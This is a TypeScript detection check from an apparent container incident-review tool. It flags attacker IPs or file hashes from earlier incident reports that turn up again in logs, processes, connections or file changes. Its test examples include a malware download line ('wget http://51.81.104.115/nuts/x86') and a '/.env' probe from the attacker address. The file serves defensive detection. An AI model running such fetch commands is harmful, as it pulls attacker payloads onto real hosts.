import { cannotTell, defineCheck, fail, notApplicable, type Outcome, pass } from '../../core/check.js';
import { exampleNow, exampleRef, seen, unseen } from '../../core/example.js';
import { defaultPolicy } from '../../core/policy.js';
import { caseRecords } from '../../facts/case-records.js';
import { layerChanges } from '../../facts/containers.js';
import { detections, type SocketError } from '../../facts/detections.js';
import { exampleConnection, exampleProcess, exampleView } from '../../facts/examples.js';
import { firstReport } from '../../facts/examples-history.js';
import { history } from '../../facts/history.js';
import { policy } from '../../facts/policy.js';
import { processes } from '../../facts/processes.js';
import { connections } from '../../facts/sockets.js';
import { blindSpot } from '../shared/blind-spot.js';
import { caseIndicators, hostOf } from '../shared/case-indicators.js';
import { declaredIndicators } from '../shared/declared-indicators.js';
import { exampleChange } from '../shared/example-change.js';
import { exampleCall, exampleDetections } from '../shared/example-detections.js';
import { attackHistory } from '../shared/example-history.js';
import { type Recurrence, recurrences } from '../shared/seen-indicators.js';

function toFinding(found: Recurrence): Outcome {
  const { indicator, seen: place, subject, ref, at } = found;
  const before = at !== null && indicator.reportedAt !== null && at < indicator.reportedAt;
  const how = before ? "stands in this capture's own evidence too" : 'is here again';
  return fail([ref, indicator.ref], {
    subject,
    what: `${hostOf(indicator) ?? indicator.value}, which ${indicator.report} names as the attacker's, ${how}: ${place}`,
    location: `${subject}: ${hostOf(indicator) ?? indicator.value}`,
  });
}

/** RTC-16: what earlier reports name as the attacker's, in this capture's own observations (rule RECURRENCE_REOPENS). */
export const earlierIndicatorReturned = defineCheck({
  id: 'RTC-16',
  title: 'An indicator of an earlier incident is here again',
  questions: ['Q4', 'Q9'],
  severity: 'critical',
  required: true,
  history: true,
  needs: { history, policy },
  uses: { detections, processes, connections, layerChanges, caseRecords },
  decide: (facts, { now }) => {
    const reported = caseIndicators(facts.history.value, facts.policy.value.publicNames);
    const records = facts.caseRecords.status === 'known' ? facts.caseRecords.value : null;
    const indicators = [
      ...reported,
      ...declaredIndicators(records, reported, { now, ownNames: facts.policy.value.publicNames }),
    ];
    if (facts.history.value.firstReport && indicators.length === 0)
      return notApplicable(facts.history.evidence, 'first report');
    if (indicators.length === 0) return pass(facts.history.evidence, { what: 'no earlier report names an indicator' });
    const found = recurrences(indicators, {
      detections: facts.detections.status === 'known' ? facts.detections.value : null,
      processes: facts.processes.status === 'known' ? facts.processes.value.items : null,
      connections: facts.connections.status === 'known' ? facts.connections.value : null,
      changes: facts.layerChanges.status === 'known' ? facts.layerChanges.value : null,
    });
    if (found.length > 0) return found.map(toFinding);
    const blind = [
      { name: 'logs', gap: blindSpot(facts.detections), settle: 'docker logs --timestamps CONTAINER' },
      {
        name: 'processes',
        gap: blindSpot(facts.processes),
        settle: 'docker top CONTAINER -eo pid,ppid,user,lstart,pcpu,rss,args',
      },
      { name: 'connections', gap: blindSpot(facts.connections), settle: 'sudo nsenter -t PID -n ss -tanp' },
      { name: 'writable layers', gap: blindSpot(facts.layerChanges), settle: 'docker diff CONTAINER' },
    ].filter(({ gap }) => gap !== null);
    const first = blind[0];
    if (first?.gap) {
      const names = blind.map(({ name }) => name).join(', ');
      return cannotTell(
        first.gap.reason,
        `${indicators.length} earlier indicators could not be looked for in ${names}: ${first.gap.detail}`,
        {
          settle: first.settle,
          evidence: facts.history.evidence,
        },
      );
    }
    return pass(facts.history.evidence, {
      what: `none of ${indicators.length} earlier indicators stands in logs, processes, connections or writable layers (that actor was not seen; no more is said)`,
    });
  },
  whyItMatters:
    'The same address or file after "patched" or "false positive" says that the cause was not found. The earlier finding is open again.',
  verifyByHand: 'docker logs CONTAINER 2>&1 | grep -nF "ADDRESS"; docker diff CONTAINER; ss -tanp | grep -F "ADDRESS"',
  remediation: {
    text: 'Reopen the earlier incident. Its stated cause is refuted: look for the hole that is still open before anything is declared clean.',
    commands: ['candor indicators', 'candor check'],
  },
  references: ['verdict.md, rule RECURRENCE_REOPENS'],
  examples: {
    pass: [
      {
        title: 'first report',
        facts: { history: seen(firstReport), policy: seen(defaultPolicy) },
        expect: 'not-applicable',
      },
      { title: 'looked everywhere, not seen', facts: withAll() },
      {
        title: 'the report names nothing',
        facts: { history: seen(attackHistory()), policy: seen(defaultPolicy) },
      },
      {
        title: 'the old address knocks and is refused',
        facts: {
          ...withAll(),
          detections: seen(
            exampleDetections({
              attempts: [
                {
                  subject: 'host',
                  client: '51.81.104.115',
                  what: 'GET /.env',
                  first: null,
                  last: null,
                  count: 3,
                  refused: true,
                  evidence: [exampleRef('nginx.access-log')],
                },
              ],
            }),
          ),
        },
      },
    ],
    fail: [
      {
        title: 'the app itself tries to reach it',
        facts: {
          history: seen(attackHistory([{ type: 'ipv4', value: '51.81.104.115' }])),
          policy: seen(defaultPolicy),
          detections: seen(exampleDetections({ socketErrors: [timedOut()] })),
        },
      },
      {
        title: 'in a command',
        facts: {
          ...withAll(),
          detections: seen(exampleDetections({ calls: [exampleCall('wget http://51.81.104.115/nuts/x86')] })),
        },
      },
      {
        title: 'as a connection',
        facts: { ...withAll(), connections: seen([exampleConnection({ peerAddress: '51.81.104.115', peerPort: 80 })]) },
      },
      {
        title: 'the same file',
        facts: { ...withAll(), layerChanges: seen([exampleChange('/tmp/123', { sha256: 'cd'.repeat(32) })]) },
      },
    ],
    blind: [
      { title: 'the history could not be read', facts: { history: unseen(), policy: seen(defaultPolicy) } },
      { title: 'nobody looked at processes', facts: { ...withAll(), processes: unseen() } },
      { title: 'logs not read', facts: { ...withAll(), detections: unseen() } },
    ],
  },
});

function withAll() {
  return {
    history: seen(
      attackHistory([
        { type: 'ipv4', value: '51.81.104.115' },
        { type: 'sha256', value: 'cd'.repeat(32) },
      ]),
    ),
    policy: seen(defaultPolicy),
    detections: seen(exampleDetections()),
    processes: seen(exampleView([exampleProcess()])),
    connections: seen([exampleConnection()]),
    layerChanges: seen([]),
  };
}

function timedOut(): SocketError {
  return {
    subject: 'container:site-app-1',
    at: exampleNow,
    code: 'ETIMEDOUT',
    peer: '51.81.104.115',
    port: 80,
    count: 2,
    evidence: [exampleRef('docker.logs', 'container:site-app-1', 9)],
  };
}
